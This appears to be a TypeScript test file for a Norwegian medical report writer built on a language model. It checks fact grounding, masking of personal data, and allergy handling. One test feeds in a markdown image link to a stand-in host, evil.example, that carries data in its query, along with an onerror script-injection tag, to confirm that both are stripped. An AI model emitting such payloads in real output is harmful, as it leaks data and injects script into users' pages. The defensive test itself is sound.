import { describe, expect, test } from 'vitest'
import { Refusal } from '#contract/refusal.ts'
import type { MaskedText } from '#domain/deidentify/mask/masked-text.ts'
import type { LanguageModel } from '#server/ports/language-model.ts'
import type { ReportRequest } from '#server/ports/report-writer.ts'
import { textsInProcess } from '#server/testing/texts-in-process.ts'
import { ModelAnswer } from './facts/model-answer.ts'
import { makeModelWriter } from './model-writer.ts'

const SAID = 'Jeg har hatt vondt i venstre kne i tre uker. Ingen feber. Jeg bruker Paracet 1 g fire ganger daglig.'

type Asked = { instructions: string; material: MaskedText }

/** Gives its answers one after the other, the last one for ever; one that is a function is called. */
function modelSaying(...answers: unknown[]): { model: LanguageModel; asked: Asked[] } {
  const asked: Asked[] = []
  const model: LanguageModel = {
    name: 'OpenAi test',
    answer: async ({ instructions, material, schema }) => {
      const answer = answers[Math.min(asked.length, answers.length - 1)]
      asked.push({ instructions, material })
      return schema.parse(typeof answer === 'function' ? await (answer as (asked: Asked) => unknown)({ instructions, material }) : answer)
    },
  }
  return { model, asked }
}

const request = (over: Partial<ReportRequest> = {}): ReportRequest => ({
  sources: [{ kind: 'transcription', text: SAID }],
  language: 'nb',
  vertical: 'med',
  doctorType: 'FamilyDoctor',
  descriptor: null,
  generatedAt: '2026-01-01T00:00:00.000Z',
  texts: textsInProcess,
  signal: new AbortController().signal,
  ...over,
})

const fact = (section: string, text: string, ids: unknown, over: object = {}) =>
  ({ section, text, ids, person: 'patient', time: 'current', certainty: 'certain', negated: false, ...over })
const medicine = (name: string, dose: string, ids: number[], over: object = {}) => ({ name, dose, route: '', status: 'uses', person: 'patient', ids, ...over })
const KNEE = fact('complaints', 'Vondt i venstre kne i tre uker.', [1])
const FEVER = fact('complaints', 'Ingen feber.', [2], { negated: true, certainty: 'denied' })
const PARACET = medicine('Paracet', '1 g fire ganger daglig', [3])
const NOTHING = { facts: [], medicines: [] }

const textOf = ({ sections }: { sections: { blocks: { text: string }[] }[] }): string =>
  sections.flatMap(({ blocks }) => blocks.map(({ text }) => text)).join('\n')
const written = async (answer: unknown, over: Partial<ReportRequest> = {}) => makeModelWriter(modelSaying(answer, NOTHING).model).write(request(over))

describe('a report of a language model', () => {
  test('stands in the order of the trade, each fact on its own statements, medicines as the list has them', async () => {
    const report = await written({ facts: [KNEE, FEVER], medicines: [PARACET] })
    expect(report.sections.map(({ type }) => type)).toEqual(['complaints', 'medications'])
    expect(report.engine).toBe('OpenAi test (report.v4)')
    const [complaints, medicines] = report.sections
    expect(complaints?.blocks.map(({ text, supported }) => [text, supported])).toEqual([['Vondt i venstre kne i tre uker. Ingen feber.', undefined]])
    expect(complaints?.blocks[0]?.evidence.map(({ start, end }) => SAID.slice(start, end))).toEqual(['Jeg har hatt vondt i venstre kne i tre uker.',
      'Ingen feber.'])
    expect(medicines?.blocks.map(({ text }) => text)).toEqual(['Paracet 1 g fire ganger daglig, fortsetter.'])
  })

  test.each([
    ['a drug nobody named', fact('complaints', 'Får tramadol mot smertene.', [1])],
    ['another dose', fact('treatmentPlans', 'Paracet 4 g fire ganger daglig.', [3])],
    ['a number nobody said', fact('complaints', 'Vondt i venstre kne i fem uker.', [1])],
    ['the other side', fact('complaints', 'Vondt i høyre kne i tre uker.', [1])],
    ['the opposite', fact('complaints', 'Har feber.', [2])],
    ['statements that there are not', fact('complaints', 'Vondt i venstre kne i tre uker.', [77])],
    ['no statements', fact('complaints', 'Vondt i venstre kne i tre uker.', [])],
  ])('LLM-1 %s stands nowhere', async (_name, wrong) => {
    const report = await written({ facts: [wrong, fact('summary', 'Vondt i venstre kne.', [1])], medicines: [] })
    expect(textOf(report)).not.toContain(wrong.text)
    expect(textOf(report)).toContain('Vondt i venstre kne.')
  })

  test('words nobody said stand with a mark, and on nothing', async () => {
    const report = await written({ facts: [KNEE, fact('additionalNotes', 'Bestemoren arvet et hus ved sjøen.', [1])], medicines: [] })
    expect(report.sections.at(-1)?.blocks).toMatchObject([{ supported: false, evidence: [] }])
  })

  test('what did not hold is asked for once more, with the reason in words and its statements alone', async () => {
    const { model, asked } = modelSaying({ facts: [KNEE, fact('complaints', 'Vondt i høyre kne i tre uker.', [1])], medicines: [PARACET] },
      { facts: [FEVER], medicines: [] })
    const report = await makeModelWriter(model).write(request())
    expect(asked).toHaveLength(2)
    const material = JSON.parse(asked[1]?.material ?? '') as { rejected: unknown[]; untold: number[] }
    expect(material.rejected).toEqual([{ kind: 'fact', text: 'Vondt i høyre kne i tre uker.', ids: [1],
      reasons: ['left and right are otherwise in its statements'] }])
    expect(asked[1]?.instructions).toContain('second look')
    expect(textOf(report)).toContain('Ingen feber.')
    expect(textOf(report)).not.toContain('høyre')
  })

  test('what the engine finds critical and nothing tells is offered by its number, once', async () => {
    const { model, asked } = modelSaying({ facts: [KNEE, FEVER], medicines: [] }, NOTHING)
    const report = await makeModelWriter(model).write(request())
    expect(asked).toHaveLength(2)
    expect(JSON.parse(asked[1]?.material ?? '')).toMatchObject({ rejected: [], untold: [3] })
    expect(textOf(report)).not.toContain('Paracet')
  })

  test('a whole answer that holds is asked for once', async () => {
    const { model, asked } = modelSaying({ facts: [KNEE, FEVER], medicines: [PARACET] })
    await makeModelWriter(model).write(request())
    expect(asked).toHaveLength(1)
  })

  test('a second look that fails costs only the second look', async () => {
    const fails = () => {
      throw new Refusal('language.daily_limit')
    }
    const report = await makeModelWriter(modelSaying({ facts: [KNEE], medicines: [] }, fails).model).write(request())
    expect(textOf(report)).toBe('Vondt i venstre kne i tre uker.')
  })

  test('whoever leaves in the second look is answered with nothing', async () => {
    const leaving = new AbortController()
    const leaves = () => {
      leaving.abort()
      throw new DOMException('left', 'AbortError')
    }
    await expect(makeModelWriter(modelSaying({ facts: [KNEE], medicines: [] },
      leaves).model).write(request({ signal: leaving.signal }))).rejects.toThrow(expect.objectContaining({ name: 'AbortError' }))
  })

  test('links, pictures and tags of a model do not reach the report', async () => {
    const report = await written({
      facts: [fact('summary', '- Vondt i kneet ![x](https://evil.example/?q=kne) [les mer](https://evil.example) <img src=x onerror=alert(1)>', [1])],
      medicines: [],
    })
    expect(textOf(report)).toContain('Vondt i kneet')
    expect(textOf(report)).not.toMatch(/https?:|<|\]\(/)
  })

  test.each([
    ['nothing', NOTHING, 'report.empty'],
    ['only empty facts', { facts: [fact('summary', ' ', [1])], medicines: [] }, 'report.empty'],
    ['nothing that holds', { facts: [fact('complaints', 'Vondt i høyre hofte i ni år.', [1])], medicines: [] }, 'report.empty'],
    ['control characters', { facts: [fact('summary', 'kne\u0000smerter', [1])], medicines: [] }, 'language.invalid_answer'],
  ] as const)('LLM-3 an answer with %s is refused', async (_name, answer, code) => {
    await expect(written(answer)).rejects.toThrow(new Refusal(code))
  })

  test('what is of another shape inside an answer is left out and spoils nothing', async () => {
    const odd = [fact('system', 'x', [1]), fact('complaints', 'Vondt i kneet.', 'one'), { section: 'complaints' }, null, 7,
      fact('complaints', 'Vondt i venstre kne i tre uker.', [1, 2.5, -4, 'x', 1e12])]
    const report = await written({ facts: odd, medicines: [null, { name: 5 }, PARACET] })
    expect(textOf(report)).toBe('Vondt i venstre kne i tre uker.\nParacet 1 g fire ganger daglig, fortsetter.')
    expect(ModelAnswer.safeParse({ sections: [] }).success).toBe(false)
  })

  test('ten thousand facts are read in bounded time, and what stands twice stands once', async () => {
    const report = await written({ facts: Array.from({ length: 10_000 }, (_, at) =>
      (at % 2 === 0 ? KNEE : fact('complaints', `Vondt i venstre kne i ${String(at + 20)} uker.`, [1]))),
        medicines: Array.from({ length: 5_000 }, () => PARACET) })
    expect(textOf(report)).toBe('Vondt i venstre kne i tre uker.\nParacet 1 g fire ganger daglig, fortsetter.')
  }, 30_000)

  test('LLM-2 names and numbers never reach the model, and stand in the report', async () => {
    const named = 'Jeg heter Kari Nordmann, telefon 912 34 567. Fødselsnummeret er 01020312345. Kari har hatt vondt i venstre kne i tre uker.'
    const { model, asked } = modelSaying({ facts: [fact('complaints', '[navn 1] har hatt vondt i venstre kne i fem uker.', [3]),
      fact('complaints', '[navn 1] har hatt vondt i venstre kne i tre uker.', [3])], medicines: [] }, NOTHING)
    const report = await makeModelWriter(model).write(request({ sources: [{ kind: 'transcription', text: named }] }))
    const sent = JSON.stringify(asked)
    expect(asked).toHaveLength(2)
    for (const secret of ['Kari', 'Nordmann', '912 34 567', '01020312345']) expect(sent).not.toContain(secret)
    expect(sent).toContain('venstre kne')
    expect(report.sections[0]?.blocks[0]?.text).toMatch(/^Kari/)
  })

  test('LLM-2 the call holds the statements of this case alone, each source by itself, and instructions hold none of them', async () => {
    const { model, asked } = modelSaying({ facts: [KNEE], medicines: [PARACET] }, NOTHING)
    await makeModelWriter(model).write(request({ sources: [{ kind: 'transcription', text: SAID }, { kind: 'note', text: 'Arbeider som tømrer.' }] }))
    expect(JSON.parse(asked[0]?.material ?? '')).toEqual({
      sources: [
        { kind: 'transcription', statements: [{ id: 1, by: 'unknown', text: 'Jeg har hatt vondt i venstre kne i tre uker.' },
          { id: 2, by: 'unknown', text: 'Ingen feber.' }, { id: 3, by: 'unknown', text: 'Jeg bruker Paracet 1 g fire ganger daglig.' }] },
        { kind: 'note', statements: [{ id: 4, by: 'unknown', text: 'Arbeider som tømrer.' }] },
      ],
    })
    expect(asked[0]?.instructions).not.toContain('Paracet')
  })

  test('a long talk is asked about in parts that overlap, and its facts are joined', async () => {
    const filler = Array.from({ length: 900 }, (_, at) => `Lege: Vi snakker videre om hverdagen og om hvordan det går på jobben, nummer ${String(at)}.`).join(
      '\n',
    )
    const numberOf = (part: Asked, words: string): number[] =>
      (JSON.parse(part.material) as { sources: { statements: { id: number; text: string }[] }[] }).sources.flatMap(({ statements }) =>
        statements.filter(({ text }) => text.includes(words)).map(({ id }) => id))
    const answer = (part: Asked) => ({ facts: [...numberOf(part, 'venstre kne').map((id) => fact('complaints', 'Vondt i venstre kne i tre uker.', [id])),
      ...numberOf(part, 'hodepine').map((id) => fact('complaints', 'Har hodepine.', [id]))], medicines: [] })
    const { model, asked } = modelSaying(answer)
    const report = await makeModelWriter(model).write(request({ sources: [{ kind: 'transcription',
      text: `Pasient: Jeg har hatt vondt i venstre kne i tre uker.\n${filler}\nPasient: Jeg har hodepine.` }] }))
    expect(asked.filter(({ instructions }) => instructions.includes('one part of a longer talk')).length).toBeGreaterThan(1)
    expect(textOf(report)).toBe('Vondt i venstre kne i tre uker. Har hodepine.')
  })
})

describe('where model and engine disagree on a medicine', () => {
  const TALK =
    'Lege: Bruker du noen medisiner?\nPasient: Ja, metoprolol 50 mg hver morgen.\nLege: Er du allergisk mot noe?\n' +
    'Pasient: Ja, jeg er allergisk mot penicillin, jeg får utslett.\nLege: Da slutter du med ibuprofen.'
  const sources: ReportRequest['sources'] = [{ kind: 'transcription', text: TALK }]
  const told = async (...medicines: unknown[]) => written({ facts: [fact('treatmentPlans', 'Slutter med ibuprofen.', [5])], medicines },
    { sources, heard: 'nb' })
  const linesOf = (report: Awaited<ReturnType<typeof told>>): string[] =>
    report.sections.filter(({ type }) => type === 'medications').flatMap(({ blocks }) => blocks.map(({ text }) => text))

  test('its status becomes a question, and no line says either', async () => {
    const report = await told(medicine('metoprolol', '50 mg hver morgen', [1, 2], { status: 'stopped' }))
    expect(linesOf(report).join()).not.toMatch(/metoprolol/i)
    expect(report.questions?.map(({ name }) => name)).toEqual(expect.arrayContaining([expect.stringMatching(/metoprolol 50 mg/i)]))
  })

  test('whose it is becomes a question', async () => {
    const report = await told(medicine('metoprolol', '50 mg hver morgen', [1, 2], { person: 'relative' }))
    expect(linesOf(report).join()).not.toMatch(/metoprolol/i)
    expect(report.questions?.find(({ name }) => /metoprolol/i.test(name ?? ''))?.choices).toContain('notPatient')
  })

  test('an allergy outranks the model: it stands though the model has no word of it, or lists it as in use', async () => {
    expect(linesOf(await told()).join('\n')).toMatch(/Allergi\/CAVE: Penicillin/)
    const report = await told(medicine('penicillin', '', [3, 4]))
    expect(linesOf(report).join('\n')).toMatch(/Allergi\/CAVE: Penicillin/)
    expect(linesOf(report).join('\n')).not.toMatch(/Penicillin, fortsetter/)
    expect(report.questions?.some(({ name }) => /penicillin/i.test(name ?? ''))).toBe(true)
  })
})
